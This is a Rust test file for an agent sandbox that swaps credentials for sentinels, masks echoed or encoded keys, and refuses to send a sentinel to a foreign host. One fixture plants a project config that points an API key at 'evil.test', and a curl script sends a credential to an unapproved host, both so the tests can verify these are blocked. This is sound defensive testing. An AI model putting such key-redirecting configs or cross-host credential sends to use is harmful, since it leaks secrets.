    assert!(
        t.contains(&format!("llm.corp.test:{}", z.front.port)),
        "{t}"
    );
    assert!(!t.contains(CORP_REAL), "{t}");
    // The same file in the workspace is the project's: never read.
    let w = home();
    w.write(
        &w.workspace().join(".codex/config.toml"),
        "[model_providers.evil]\nbase_url = \"https://evil.test/v1\"\nenv_key = \"CORP_LLM_KEY\"\n",
    );
    let o = w
        .sandpit()
        .env("CODEX_HOME", w.workspace().join(".codex"))
        .env("CORP_LLM_KEY", CORP_REAL)
        .args(["plan", "--", "codex", "exec", "x"])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(!t.contains("evil.test"), "{t}");
}

#[test]
fn a_profiles_key_that_is_not_set_is_skipped_with_one_line_and_required_stops_the_run() {
    // No OPENAI_API_KEY nor CODEX_API_KEY: the run goes on, one line each.
    let h = home();
    let o = h
        .sandpit()
        .env_remove("OPENAI_API_KEY")
        .env("GH_TOKEN", "ghp-not-for-the-agent-1234")
        .args([
            "run",
            "--profile",
            "codex",
            "--",
            "sh",
            "-c",
            "touch ran; echo ok",
        ])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(h.workspace().join("ran").exists(), "{t}");
    // A set variable withheld from the agent itself is named, with the line that
    // would give it back (never its value): at start and after the summary.
    let named = t
        .lines()
        .filter(|l| {
            l.contains("withheld from the agent")
                && l.contains("GH_TOKEN")
                && l.contains("[env] agent = [\"NAME\"]")
        })
        .count();
    assert_eq!(named, 2, "{t}");
    assert!(!t.contains("ghp-not-for-the-agent"), "{t}");
    let lines: Vec<&str> = t
        .lines()
        .filter(|l| l.contains("credentials.openai"))
        .collect();
    assert_eq!(lines.len(), 1, "{t}");
    assert!(
        lines[0].contains("profiles/codex.toml")
            && lines[0].contains("skipped: OPENAI_API_KEY is not set"),
        "{t}"
    );
    // The same for a credential of the user's own whose source is missing.
    let cfg = "[credentials.mine]\nenv = \"MY_TOKEN\"\nsource = \"env:SANDPIT_TEST_UNSET_KEY\"\nhosts = [\"inject.test\"]\n";
    let h = home();
    h.user_config(cfg);
    let o = h
        .sandpit()
        .args(["run", "--", "sh", "-c", "touch ran"])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(
        o.status.success() && h.workspace().join("ran").exists(),
        "{t}"
    );
    assert!(
        t.contains("credentials.mine") && t.contains("SANDPIT_TEST_UNSET_KEY is not set"),
        "{t}"
    );
    // required = true: exit 2, the table's file:line:col, what to do; nothing ran.
    let h = home();
    h.user_config(&format!("{cfg}required = true\n"));
    let o = h
        .sandpit()
        .args(["run", "--", "sh", "-c", "touch ran"])
        .output()
        .unwrap();
    let t = text(&o);
    assert_eq!(o.status.code(), Some(2), "{t}");
    assert!(!h.workspace().join("ran").exists(), "{t}");
    assert!(
        t.contains("credentials.mine") && t.contains("config.toml:1:") && t.contains("export it"),
        "{t}"
    );
    // Set, it runs with a sentinel.
    let o = h
        .sandpit()
        .env("SANDPIT_TEST_UNSET_KEY", "value-0123456789")
        .args(["run", "--", "sh", "-c", "touch ran; echo $MY_TOKEN"])
        .output()
        .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    assert!(
        t.contains("sandpit-sentinel-mine-") && !t.contains("value-0123456789"),
        "{t}"
    );
}

#[test]
fn plan_config_and_explain_show_the_profiles_credentials_and_the_skipped() {
    let h = home();
    let run = |args: &[&str], key: Option<&str>| {
        let mut c = h.sandpit();
        c.env_remove("OPENAI_API_KEY");
        if let Some(k) = key {
            c.env("OPENAI_API_KEY", k);
        }
        let o = c.args(args).output().unwrap();
        let t = text(&o);
        assert!(o.status.success(), "{args:?}: {t}");
        assert!(!t.contains(AGENT_REAL), "{t}");
        t
    };
    let plan = ["plan", "--profile", "codex", "--", "sh"];
    let t = run(&plan, Some(AGENT_REAL));
    assert!(
        t.contains(
            "openai: OPENAI_API_KEY holds a sentinel; the real value goes to api.openai.com"
        ),
        "{t}"
    );
    let t = run(&plan, None);
    assert!(t.contains("credentials skipped in this run:"), "{t}");
    assert!(
        t.contains("credentials.openai (profiles/codex.toml (built-in):"),
        "{t}"
    );
    let t = run(&["config", "--profile", "codex"], Some(AGENT_REAL));
    assert!(
        t.contains("[credentials.openai]") && t.contains("api.openai.com"),
        "{t}"
    );
    let t = run(&["config", "--profile", "codex"], None);
    assert!(
        t.contains("# credentials.openai (profiles/codex.toml (built-in):")
            && t.contains("skipped"),
        "{t}"
    );
    // codex pointed at a local model server over plain HTTP: no substitution
    // there, so the key goes to codex itself, and the plan says why, with the line.
    h.write(
        &h.home().join(".codex/config.toml"),
        "model_provider = \"local\"\n[model_providers.local]\nname = \"local\"\nbase_url = \"http://127.0.0.1:11434/v1\"\nenv_key = \"OPENAI_API_KEY\"\n",
    );
    let t = run(&plan, Some(AGENT_REAL));
    assert!(
        t.contains("credentials.openai (profiles/codex.toml (built-in):")
            && t.contains("skipped: the base URL http://127.0.0.1:11434/v1 (~/.codex/config.toml:4:12) is plain HTTP"),
        "{t}"
    );
    std::fs::remove_file(h.home().join(".codex/config.toml")).unwrap();
    let explain = ["explain", "--profile", "codex", "env", "OPENAI_API_KEY"];
    let t = run(&explain, Some(AGENT_REAL));
    assert!(
        t.contains("holds the sentinel of credentials.openai"),
        "{t}"
    );
    let t = run(&explain, None);
    assert!(
        t.contains("credentials.openai")
            && t.contains("is skipped in this run: OPENAI_API_KEY is not set"),
        "{t}"
    );
}

#[test]
fn a_compressed_echo_of_the_key_is_decoded_and_masked() {
    let w = World::new();
    let port = w.inject.port;
    let script = format!(
        r#"
for enc in gzip deflate br zstd; do
  curl -sS --max-time 20 --compressed "https://inject.test:{port}/$enc-echo" -H "Authorization: Bearer $OPENAI_API_KEY" \
    -H "Proxy-Authorization: Basic cHJveHk6c2VjcmV0" | grep -i '^authorization' | sed "s/^/$enc /"
done
# A coding the mask cannot read is refused, not passed on.
curl -sS --max-time 20 -o /dev/null -w 'odd %{{http_code}}\n' "https://inject.test:{port}/odd-echo" -H "Authorization: Bearer $OPENAI_API_KEY"
echo "OPENAI_API_KEY=$OPENAI_API_KEY"
"#
    );
    let o = w.run(&script);
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let sentinel = sentinel_in(&out, "OPENAI_API_KEY");
    // Each compressed echo came back decoded, with the sentinel in the key's place.
    for enc in ["gzip", "deflate", "br", "zstd"] {
        assert!(
            out.lines()
                .any(|l| l.starts_with(&format!("{enc} ")) && l.contains(&sentinel)),
            "{enc}: {t}"
        );
    }
    assert!(out.contains("odd 502"), "{t}");
    // The positive control: the server received the real key, and was asked for
    // identity encoding.
    let got = w.inject.received();
    assert_eq!(got.matches(&format!("Bearer {REAL}")).count(), 5, "{got}");
    assert!(
        got.to_ascii_lowercase()
            .contains("accept-encoding: identity"),
        "{got}"
    );
    assert!(
        !got.to_ascii_lowercase()
            .contains("accept-encoding: deflate"),
        "{got}"
    );
    // Proxy-Authorization is for no server: never sent on.
    assert!(
        !got.to_ascii_lowercase().contains("proxy-authorization"),
        "{got}"
    );
    let logs = w.logs();
    assert!(
        logs.contains("\\\"compress\\\"") || logs.contains("\"compress\""),
        "{logs}"
    );
    w.assert_no_real_value(&o);
}

#[test]
fn encoded_forms_of_the_key_are_masked() {
    let w = World::with(|_, _, _| {
        "[credentials.third]\nenv = \"THIRD_TOKEN\"\nsource = \"env:REAL_THIRD_TOKEN\"\nhosts = [\"inject.test\"]\n".into()
    });
    let o = w
        .sandpit()
        .env("REAL_THIRD_TOKEN", THIRD)
        .args(["run", "--", "sh", "-c"])
        .arg(format!(
            "curl -sS --max-time 20 https://inject.test:{}/encoded -H \"Authorization: Bearer $THIRD_TOKEN\"",
            w.inject.port
        ))
        .output()
        .unwrap();
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    assert!(out.starts_with("tls:inject"), "{t}");
    // The positive control: the server had the real value, and the same forms of a
    // value that is no secret pass as they are.
    assert!(
        w.inject.received().contains(&format!("Bearer {THIRD}")),
        "{t}"
    );
    for (k, f) in encoded_forms(CONTROL) {
        assert!(out.contains(&format!("{k}={f}\n")), "{k}: {t}");
    }
    // Every form of each secret: gone, and what is there decodes to no secret.
    let lines: Vec<&str> = out.lines().collect();
    for v in [REAL, THIRD] {
        let forms = encoded_forms(v);
        assert_eq!(forms.len(), 14);
        for (i, (k, f)) in forms.iter().enumerate() {
            assert!(!out.contains(f.as_str()), "{k} of {v}: {t}");
            let base = if v == REAL { 1 } else { 1 + forms.len() };
            let line = lines[base + i];
            let shown = line
                .strip_prefix(&format!("{k}="))
                .unwrap_or_else(|| panic!("{k}: {line}"));
            let decoded = decode_form(k, shown);
            assert!(
                find(&decoded, v.as_bytes()).is_none(),
                "{k} of {v} decodes to the value: {line}"
            );
        }
    }
    assert!(!out.contains(THIRD) && !out.contains(REAL), "{t}");
}

#[test]
fn values_split_across_chunks_and_bodies_over_1_mib_are_rewritten() {
    let w = World::new();
    let (ip, sp) = (w.inject.port, w.second.port);
    let script = format!(
        r#"
# The key split across two chunks of a response.
curl -sS --max-time 20 "https://inject.test:{ip}/split"; echo
# The same in a response of unknown length over 1 MiB.
curl -sS --max-time 30 "https://inject.test:{ip}/big-split" | tail -c 200; echo
# A request body over 1 MiB with the sentinel at its end (body = true).
head -c 2097152 /dev/zero | tr '\0' a > big
printf 'k=%s' "$OPENAI_API_KEY" >> big
curl -sS --max-time 30 "https://inject.test:{ip}/upload" -H 'Expect:' --data-binary @big; echo
# Another credential's sentinel at the end of a body over 1 MiB to second.test.
curl -sS --max-time 30 -o /dev/null -w 'foreign %{{http_code}}\n' "https://second.test:{sp}/upload" -H 'Expect:' -H "Authorization: Bearer $SECOND_TOKEN" --data-binary @big
echo "OPENAI_API_KEY=$OPENAI_API_KEY"
"#
    );
    let o = w.run(&script);
    let t = text(&o);
    assert!(o.status.success(), "{t}");
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let sentinel = sentinel_in(&out, "OPENAI_API_KEY");
    assert!(
        out.contains(&format!("tls:inject split {sentinel} end")),
        "{t}"
    );
    assert!(out.contains(&format!("a{sentinel}bbbb\nend")), "{t}");
    // The streamed upload reached the server with the real value, and whole.
    let got = w.inject.received();
    assert!(
        got.contains(&format!("aaaak={REAL}")),
        "upload without the key"
    );
    assert!(!got.contains("sandpit-sentinel-openai"), "a sentinel went");
    assert!(got.contains("/upload"), "no upload");
    let upload = got
        .split("\n----\n")
        .find(|r| r.contains("/upload"))
        .unwrap();
    let body = &upload[upload.find("\r\n\r\n").unwrap() + 4..];
    assert_eq!(body.len(), 2097152 + 2 + REAL.len());
    // The foreign sentinel was found past 1 MiB: refused, it never went.
    assert!(out.contains("foreign 403"), "{t}");
    let second = w.second.received();
    assert!(!second.contains("sandpit-sentinel-openai"), "sent on");
    assert!(
        w.logs()
            .contains("sentinel for credential openai sent to second.test"),
        "{}",
        w.logs()
    );
    w.assert_no_real_value(&o);
}

/// A loopback HTTPS git server: `git http-backend` (smart HTTP) behind a server that
/// wants `Authorization: Basic` with `x-access-token:TOKEN`, else answers 401.
struct GitServer {
    port: u16,
    /// The Authorization values received, decoded.
    auths: Arc<Mutex<Vec<String>>>,
}

impl GitServer {
    fn start(
        ip: &str,
        cfg: Arc<rustls::ServerConfig>,
        root: std::path::PathBuf,
        token: &'static str,
    ) -> GitServer {
        use base64::Engine;
        let l = TcpListener::bind((ip, 0)).unwrap();
        let port = l.local_addr().unwrap().port();
        let auths = Arc::new(Mutex::new(Vec::new()));
        let a = auths.clone();
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(s) = s else { continue };
                let (cfg, a, root) = (cfg.clone(), a.clone(), root.clone());
                std::thread::spawn(move || {
                    s.set_read_timeout(Some(std::time::Duration::from_secs(20)))
                        .unwrap();
                    let conn = rustls::ServerConnection::new(cfg).unwrap();
                    let mut tls = rustls::StreamOwned::new(conn, s);
                    let mut got = Vec::new();
                    let mut buf = [0u8; 16384];
                    let (head, body) = loop {
                        let n = match tls.read(&mut buf) {
                            Ok(0) | Err(_) => return,
                            Ok(n) => n,
                        };
                        got.extend_from_slice(&buf[..n]);
                        let Some(end) = find(&got, b"\r\n\r\n") else {
                            continue;
                        };
                        let head = String::from_utf8_lossy(&got[..end]).into_owned();
                        let lower = head.to_ascii_lowercase();
                        let rest = &got[end + 4..];
                        if lower.contains("transfer-encoding: chunked") {
                            if let Some(b) = dechunk(rest) {
                                break (head, b);
                            }
                            continue;
                        }
                        let len: usize = lower
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .map(|v| v.trim().parse().unwrap())
                            .unwrap_or(0);
                        if rest.len() >= len {
                            break (head, rest[..len].to_vec());
                        }
                    };
                    let header = |name: &str| {
                        head.lines().find_map(|l| {
                            let (k, v) = l.split_once(':')?;
                            k.eq_ignore_ascii_case(name).then(|| v.trim().to_string())
                        })
                    };
                    let auth = header("authorization")
                        .and_then(|v| v.strip_prefix("Basic ").map(str::to_string))
                        .and_then(|b| base64::engine::general_purpose::STANDARD.decode(b).ok())
                        .map(|d| String::from_utf8_lossy(&d).into_owned());
                    if let Some(x) = &auth {
                        a.lock().unwrap().push(x.clone());
                    }
                    if auth.as_deref() != Some(&format!("x-access-token:{token}")) {
                        let _ = tls.write_all(b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"git\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
                        tls.conn.send_close_notify();
                        let _ = tls.flush();
                        return;
                    }
                    let line = head.lines().next().unwrap_or_default().to_string();
                    let mut parts = line.split(' ');
                    let method = parts.next().unwrap_or_default().to_string();
                    let target = parts.next().unwrap_or_default().to_string();
                    let (path, query) = target.split_once('?').unwrap_or((&target, ""));
                    let mut cgi = std::process::Command::new("git");
                    cgi.arg("http-backend")
                        .env("GIT_PROJECT_ROOT", &root)
                        .env("GIT_HTTP_EXPORT_ALL", "1")
                        .env("REQUEST_METHOD", &method)
                        .env("PATH_INFO", path)
                        .env("QUERY_STRING", query)
                        .env("REMOTE_USER", "x-access-token")
                        .env("REMOTE_ADDR", "127.0.0.1")
                        .env("CONTENT_LENGTH", body.len().to_string())
                        .stdin(std::process::Stdio::piped())
                        .stdout(std::process::Stdio::piped());
                    for (h, e) in [
                        ("content-type", "CONTENT_TYPE"),
                        ("content-encoding", "HTTP_CONTENT_ENCODING"),
                        ("git-protocol", "GIT_PROTOCOL"),
                    ] {
                        if let Some(v) = header(h) {
                            cgi.env(e, v);
                        }
                    }
                    let mut child = cgi.spawn().unwrap();
                    let mut stdin = child.stdin.take().unwrap();
                    let feeder = std::thread::spawn(move || {
                        let _ = stdin.write_all(&body);
                    });
                    let out = child.wait_with_output().unwrap();
                    let _ = feeder.join();
                    let o = out.stdout;
                    let (hend, skip) = match (find(&o, b"\r\n\r\n"), find(&o, b"\n\n")) {
                        (Some(a), Some(b)) if b < a => (b, 2),
                        (Some(a), _) => (a, 4),
                        (None, Some(b)) => (b, 2),
                        (None, None) => (0, 0),
                    };
                    let cgi_head = String::from_utf8_lossy(&o[..hend]).into_owned();
                    let cgi_body = &o[hend + skip..];
                    let mut status = "200 OK".to_string();
                    let mut resp = String::new();
                    for l in cgi_head.lines().map(str::trim).filter(|l| !l.is_empty()) {
                        match l.strip_prefix("Status:") {
                            Some(s) => status = s.trim().to_string(),
                            None => resp.push_str(&format!("{l}\r\n")),
                        }
                    }
                    let _ = tls.write_all(
                        format!(
                            "HTTP/1.1 {status}\r\n{resp}Content-Length: {}\r\nConnection: close\r\n\r\n",
                            cgi_body.len()
                        )
                        .as_bytes(),
                    );
                    let _ = tls.write_all(cgi_body);
                    tls.conn.send_close_notify();
                    let _ = tls.flush();
                });
            }
        });
        GitServer { port, auths }
    }
}

const REAL_GIT: &str = "ghs_REALgitTOKEN0123456789abcdefXYZ";

#[test]
fn git_over_https_with_a_token_gets_the_real_one_in_basic_auth() {
    let h = home();
    let ca = TestCa::new();
    // The server's repository, with one commit on main.
    let root = tempfile::Builder::new()
        .prefix("sandpit-git-root")
        .tempdir_in("/var/tmp")
        .unwrap();
    let git = |args: &[&str], dir: &std::path::Path| {
        let o = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_NOSYSTEM", "1")
            .env("HOME", root.path())
            .output()
            .unwrap();
        assert!(o.status.success(), "git {args:?}: {}", text(&o));
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    git(
        &["init", "-q", "--bare", "-b", "main", "repo.git"],
        root.path(),
    );
    git(&["init", "-q", "-b", "main", "seed"], root.path());
    let seed = root.path().join("seed");
    std::fs::write(seed.join("README"), "seed\n").unwrap();
    git(&["add", "README"], &seed);
    git(
        &[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@t",
            "commit",
            "-qm",
            "seed",
        ],
        &seed,
    );
    git(&["push", "-q", "../repo.git", "main"], &seed);
    let server = GitServer::start(
        "127.0.0.9",
        ca.server_config("git.test"),
        root.path().to_path_buf(),
        REAL_GIT,
    );
    h.write(&h.home().join("test-ca.pem"), &ca.pem);
    h.user_config(&format!(
        r#"[network]
allow = ["git.test:{p}"]
[network.resolve]
"git.test" = "127.0.0.9"
[network.tls]
extra_roots = ["~/test-ca.pem"]
[credentials.gh]
env = "GH_TOKEN"
source = "env:REAL_GH_TOKEN"
hosts = ["git.test"]
"#,
        p = server.port
    ));
    let script = format!(
        r#"
echo "GH_TOKEN=$GH_TOKEN"
git clone -q "https://x-access-token:$GH_TOKEN@git.test:{p}/repo.git" cloned && echo CLONED
cd cloned
cat README
echo pushed > new.txt
git add new.txt
git -c user.name=agent -c user.email=a@a commit -qm from-the-sandbox
git push -q origin HEAD:main && echo PUSHED
"#,
        p = server.port
    );
    let o = h
        .sandpit()
        .env("REAL_GH_TOKEN", REAL_GIT)
        .args(["run", "--", "sh", "-c", &script])
        .output()
        .unwrap();
    let t = text(&o);
    let out = String::from_utf8_lossy(&o.stdout).into_owned();
    let sentinel = sentinel_in(&out, "GH_TOKEN");
    assert!(sentinel.starts_with("sandpit-sentinel-gh-"), "{t}");
    assert!(o.status.success(), "{t}");
    assert!(out.contains("CLONED") && out.contains("seed"), "{t}");
    assert!(out.contains("PUSHED"), "{t}");
    // The push landed in the server's repository.
    let log = git(
        &["log", "--format=%s", "main"],
        &root.path().join("repo.git"),
    );
    assert!(log.contains("from-the-sandbox"), "{log}");
    // The server saw the real token, never the sentinel; the sandbox, only the sentinel.
    let auths = server.auths.lock().unwrap().clone();
    assert!(
        auths
            .iter()
            .any(|a| a == &format!("x-access-token:{REAL_GIT}")),
        "{auths:?}"
    );
    assert!(
        !auths.iter().any(|a| a.contains("sandpit-sentinel")),
        "{auths:?}"
    );
    assert!(!t.contains(REAL_GIT), "{t}");
    let cfg = std::fs::read_to_string(h.workspace().join("cloned/.git/config")).unwrap();
    assert!(cfg.contains(&sentinel) && !cfg.contains(REAL_GIT), "{cfg}");
    for e in std::fs::read_dir(h.home().join(".sandpit/logs"))
        .unwrap()
        .flatten()
    {
        assert!(!std::fs::read_to_string(e.path())
            .unwrap()
            .contains(REAL_GIT));
    }
}
